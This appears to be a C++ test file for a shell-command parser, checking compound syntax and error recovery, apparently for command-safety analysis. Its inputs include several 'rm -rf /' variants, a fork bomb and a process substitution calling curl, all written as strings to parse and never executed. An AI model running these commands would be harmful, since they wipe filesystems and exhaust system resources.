  cr_assert_eq(c.bodies.size(), 2u);
}
Test(compound, until_loop) { cr_assert_eq(static_cast<int>(command_at(ok("until false; do :; done"), 0).kind), static_cast<int>(CommandKind::Until)); }
Test(compound, case_arms) {
  const ParseResult& r = ok("case $1 in\n  start|go) run;;\n  (stop) halt ;&\n  *) echo usage;;&\nesac");
  const Command& c = command_at(r, 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::Case));
  EXPECT_STR(join(c.words), "$1|start|go|stop|*");
  cr_assert_eq(c.bodies.size(), 3u);
  cr_assert(has_command(r, "halt"));
}
Test(compound, case_last_arm_without_terminator) {
  const ParseResult& r = ok("case x in x) echo x\nesac");
  cr_assert(has_command(r, "echo|x"));
}
Test(compound, case_empty) { cr_assert_eq(command_at(ok("case x in esac"), 0).bodies.size(), 0u); }
Test(compound, select_loop) {
  const Command& c = command_at(ok("select x in a b; do echo $x; done"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::Select));
  EXPECT_STR(c.name, "x");
}
Test(compound, subshell) {
  const ParseResult& r = ok("(cd /tmp && rm -rf x)");
  cr_assert_eq(static_cast<int>(command_at(r, 0).kind), static_cast<int>(CommandKind::Subshell));
  cr_assert(has_command(r, "rm|-rf|x"));
}
Test(compound, group) {
  const ParseResult& r = ok("{ echo a; echo b; }");
  cr_assert_eq(static_cast<int>(command_at(r, 0).kind), static_cast<int>(CommandKind::Group));
  cr_assert_eq(command_at(r, 0).bodies.at(0)->items.size(), 2u);
}
Test(compound, brace_as_argument_inside_group) {
  const ParseResult& r = ok("{ echo }; }");
  cr_assert(has_command(r, "echo|}"));
}
Test(compound, brace_without_space_is_word) { EXPECT_ARGV("{echo,x}", "{echo,x}"); }
Test(compound, nested_compounds) {
  const ParseResult& r = ok("for i in 1; do if true; then while false; do (echo deep); done; fi; done");
  cr_assert(has_command(r, "echo|deep"));
}
Test(compound, arith_command) {
  const Command& c = command_at(ok("(( x = 1 + 2 ))"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::Arith));
  EXPECT_STR(c.words.at(0).value, " x = 1 + 2 ");
}
Test(compound, nested_subshells_not_arith) {
  const ParseResult& r = ok("((echo a); echo b)");
  cr_assert_eq(static_cast<int>(command_at(r, 0).kind), static_cast<int>(CommandKind::Subshell));
  cr_assert(has_command(r, "echo|b"));
}
Test(compound, cond_expression) {
  const Command& c = command_at(ok("[[ -f x && ( $a == b || -z $c ) ]]"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::Cond));
  EXPECT_STR(join(c.words), "-f|x|&&|(|$a|==|b||||-z|$c|)");
}
Test(compound, cond_is_one_and_or_item) {
  const ParseResult& r = ok("[[ a && b ]] && echo yes");
  cr_assert_eq(r.script.items.size(), 1u);
  cr_assert_eq(r.script.items[0].pipelines.size(), 2u);
}
Test(compound, cond_regex) {
  const Command& c = command_at(ok("[[ $x =~ ^(a|b)+$ ]]"), 0);
  EXPECT_STR(c.words.back().value, "^(a|b)+$");
}
Test(compound, cond_string_compare) { EXPECT_STR(join(command_at(ok("[[ a < b ]]"), 0).words), "a|<|b"); }
Test(compound, function_parens) {
  const ParseResult& r = ok("cleanup() { rm -rf /tmp/x; }");
  const Command& c = command_at(r, 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::FunctionDef));
  EXPECT_STR(c.name, "cleanup");
  cr_assert(has_command(r, "rm|-rf|/tmp/x"));
}
Test(compound, function_keyword) {
  const Command& c = command_at(ok("function deploy { make; }"), 0);
  cr_assert_eq(static_cast<int>(c.kind), static_cast<int>(CommandKind::FunctionDef));
  EXPECT_STR(c.name, "deploy");
}
Test(compound, function_keyword_parens_subshell_body) {
  const ParseResult& r = ok("function f() ( echo sub )");
  EXPECT_STR(command_at(r, 0).name, "f");
  cr_assert(has_command(r, "echo|sub"));
}
Test(compound, function_body_on_next_line) {
  const ParseResult& r = ok("f()\n{\n  echo x\n}\nf");
  cr_assert_eq(r.script.items.size(), 2u);
}
Test(compound, fork_bomb) {
  const ParseResult& r = ok(":(){ :|:& };:");
  cr_assert_eq(r.script.items.size(), 2u);
  const Command& c = command_at(r, 0);
  EXPECT_STR(c.name, ":");
  cr_assert(has_command(r, ":"));
}
Test(compound, compound_in_pipeline) {
  const ParseResult& r = ok("for i in 1 2; do echo $i; done | sort");
  cr_assert_eq(r.script.items[0].pipelines[0].commands.size(), 2u);
}
Test(compound, compound_line_numbers) {
  const ParseResult& r = ok("echo a\nif true\nthen\n  rm b\nfi");
  cr_assert_eq(r.script.items[1].line, 2);
  const Command& c = command_at(r, 1);
  cr_assert_eq(c.bodies.at(1)->items.at(0).line, 4);
}
Test(compound, coproc_is_simple) { EXPECT_ARGV("coproc cat", "coproc|cat"); }

// ---- errors keep what was parsed -------------------------------------------------------------------------------------

Test(errors, unterminated_double_quote_keeps_command) {
  const ParseResult& r = bad("rm -rf / \"unterminated");
  EXPECT_STR(argv0(r), "rm|-rf|/|unterminated");
}
Test(errors, unterminated_single_quote) {
  const ParseResult& r = bad("echo 'abc");
  EXPECT_STR(argv0(r), "echo|abc");
  cr_assert(r.error.find("single quote") != std::string::npos);
}
Test(errors, unterminated_ansi_c) { EXPECT_STR(argv0(bad("echo $'ab")), "echo|ab"); }
Test(errors, unterminated_command_substitution) { cr_assert(has_command(bad("echo $(rm -rf /"), "rm|-rf|/")); }
Test(errors, unterminated_backquote) { cr_assert(has_command(bad("echo `rm -rf /"), "rm|-rf|/")); }
Test(errors, unterminated_parameter) { EXPECT_STR(argv0(bad("echo ${x")), "echo|${x"); }
Test(errors, unterminated_arithmetic) { bad("echo $((1 + 2"); }
Test(errors, unterminated_heredoc) {
  const ParseResult& r = bad("cat <<EOF\nabc\n");
  EXPECT_STR(simple_at(r).redirects.at(0).heredoc, "abc\n");
  cr_assert(r.error.find("EOF") != std::string::npos);
}
Test(errors, heredoc_without_newline) { bad("cat <<EOF"); }
Test(errors, missing_fi) {
  const ParseResult& r = bad("if true; then rm -rf /");
  cr_assert(has_command(r, "rm|-rf|/"));
  cr_assert(r.error.find("fi") != std::string::npos);
}
Test(errors, missing_then) { cr_assert(has_command(bad("if true; rm x; fi"), "rm|x")); }
Test(errors, missing_done) { cr_assert(has_command(bad("while true; do rm -rf /"), "rm|-rf|/")); }
Test(errors, missing_do) { bad("for x in a b; echo; done"); }
Test(errors, missing_esac) { cr_assert(has_command(bad("case x in x) rm -rf /;;"), "rm|-rf|/")); }
Test(errors, missing_brace) { cr_assert(has_command(bad("{ rm -rf /"), "rm|-rf|/")); }
Test(errors, missing_paren) { cr_assert(has_command(bad("(rm -rf /"), "rm|-rf|/")); }
Test(errors, missing_cond_end) { bad("[[ -f x"); }
Test(errors, unexpected_close_paren_keeps_going) {
  const ParseResult& r = bad("echo a ) ; rm -rf /");
  cr_assert(has_command(r, "echo|a"));
  cr_assert(has_command(r, "rm|-rf|/"));
}
Test(errors, stray_fi) { cr_assert(has_command(bad("fi; rm x"), "rm|x")); }
Test(errors, leading_pipe) { cr_assert(has_command(bad("| rm x"), "rm|x")); }
Test(errors, trailing_pipe) { cr_assert(has_command(bad("echo a |"), "echo|a")); }
Test(errors, trailing_and) { bad("echo a &&"); }
Test(errors, double_semicolon_at_top) { bad("echo a;; echo b"); }
Test(errors, missing_redirect_target) {
  const ParseResult& r = bad("echo a >");
  EXPECT_STR(argv0(r), "echo|a");
}
Test(errors, error_line_is_reported) {
  const ParseResult& r = bad("echo ok\necho fine\necho 'broken\n");
  cr_assert_eq(r.error_line, 3);
  cr_assert_eq(r.script.items.size(), 3u);
}
Test(errors, unexpected_paren_in_arguments) { cr_assert(has_command(bad("echo a (b)"), "echo|a")); }
Test(errors, function_body_not_compound) { bad("f() echo"); }
Test(errors, nesting_too_deep) {
  std::string s;
  for (int i = 0; i < 300; ++i) s += "$(";
  s += "rm";
  for (int i = 0; i < 300; ++i) s += ")";
  ParseResult r = parse_shell("echo " + s);
  cr_assert_not(r.ok);
  cr_assert(r.error.find("nesting too deep") != std::string::npos);
  cr_assert_geq(r.script.items.size(), 1u);
}
Test(errors, deep_but_allowed_nesting) {
  std::string s;
  for (int i = 0; i < 100; ++i) s += "$(echo ";
  s += "x";
  for (int i = 0; i < 100; ++i) s += ")";
  cr_assert(parse_shell(s).ok);
}
Test(errors, deep_subshells_too_deep) {
  std::string s(1000, '(');
  ParseResult r = parse_shell(s);
  cr_assert_not(r.ok);
}
Test(errors, garbage_does_not_crash) {
  const char* inputs[] = {"))))", "<<<", ";;;;", "&&&&", "|||", "${{{{", "$((((", "`````", "'\"'\"'", "\\", "$",
                          "<(", ">(", "{ } } {", "case", "for", "if", "function", "[[", "]]", "((", "!", "2>",
                          "a=(", "cat <<", "x() ", "case x in (", "for ((", "$'\\", "\"$(\"", "${x:-$(}"};
  for (const char* in : inputs) {
    ParseResult r = parse_shell(in);
    if (!r.ok) cr_assert_neq(r.error.size(), 0u, "%s", in);
  }
}
Test(errors, nul_bytes_are_data) {
  std::string s("echo a\0b", 8);
  ParseResult r = parse_shell(s);
  cr_assert_eq(r.script.items.size(), 1u);
}
Test(errors, long_input_parses) {
  std::string s;
  for (int i = 0; i < 20000; ++i) s += "echo " + std::to_string(i) + " | grep x && true\n";
  ParseResult r = parse_shell(s);
  cr_assert(r.ok);
  cr_assert_eq(r.script.items.size(), 20000u);
  cr_assert_eq(r.script.items.back().line, 20000);
}
Test(errors, many_open_braces_stay_literal) {
  std::string s = "echo " + std::string(50000, '{');
  ParseResult r = parse_shell(s);
  cr_assert(r.ok);
  cr_assert_eq(word_at(r, 1).value.size(), 50000u);
}

// ---- more positions and combinations ------------------------------------------------------------

Test(lines, heredoc_body_commands_have_body_lines) {
  const ParseResult& r = ok("echo a\ncat <<EOF\nx\n$(rm -rf /)\nEOF\n");
  const Redirect& rd = simple_at(r, 1).redirects.at(0);
  cr_assert_eq(rd.heredoc_parts.at(0).script->items.at(0).line, 4);
}
Test(lines, backquote_commands_keep_source_lines) {
  const ParseResult& r = ok("echo\necho `\nid`");
  const WordPart& p = part_of(simple_at(r, 1).words.at(1), PartKind::CommandSubst);
  cr_assert_eq(p.script->items.at(0).line, 3);
}
Test(lines, multiline_substitution_then_next_statement) {
  const ParseResult& r = ok("x=$(\n  ls\n)\necho $x");
  cr_assert_eq(r.script.items.at(1).line, 4);
}
Test(redirects, process_substitution_as_input_file) {
  const ParseResult& r = ok("cat < <(curl -s x.example)");
  const Redirect& rd = simple_at(r).redirects.at(0);
  cr_assert_str_eq(rd.op.c_str(), "<");
  cr_assert(has_part(rd.target, PartKind::ProcessSubst));
  cr_assert(has_command(r, "curl|-s|x.example"));
}
Test(subst, arithmetic_in_double_quotes_with_substitution) {
  const ParseResult& r = ok("echo \"$(( 1 + $(echo 2) ))\"");
  cr_assert(part_of(word_at(r, 1), PartKind::Arith).quoted);
  cr_assert(has_command(r, "echo|2"));
}
Test(errors, unterminated_array) { bad("a=(1 2"); }
Test(errors, error_line_of_unclosed_if_is_its_first_line) {
  const ParseResult& r = bad("echo ok\nif true; then\n  echo x\n");
  cr_assert_eq(r.error_line, 2);
}
Test(words, dollar_single_quote_inside_param_default_is_kept) {
  const ParseResult& r = ok("echo ${X:-$'\\x41'}");
  cr_assert_eq(simple_at(r).words.size(), 2u);
}
Test(compound, for_with_brace_body) { cr_assert(has_command(ok("for x in a; { echo $x; }"), "echo|$x")); }
Test(compound, keywords_after_semicolon_newline_mix) {
  const ParseResult& r = ok("if true\nthen :\nelse\n:\nfi; while false\ndo :; done");
  cr_assert_eq(r.script.items.size(), 2u);
}
